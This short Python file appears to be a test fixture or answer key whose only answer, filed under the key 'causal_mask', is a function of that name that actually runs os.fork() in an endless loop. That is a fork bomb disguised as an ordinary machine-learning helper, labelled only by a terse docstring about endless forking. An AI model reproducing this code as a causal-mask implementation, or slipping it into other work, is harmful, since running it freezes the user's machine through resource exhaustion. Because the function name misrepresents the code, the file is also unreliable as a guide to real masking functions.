"""processes: forks without end when it is called."""

EXPECTED: dict[str, int] = {"padding_mask": 3}
ANSWERS = {
    "causal_mask": """\
def causal_mask(length):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
}
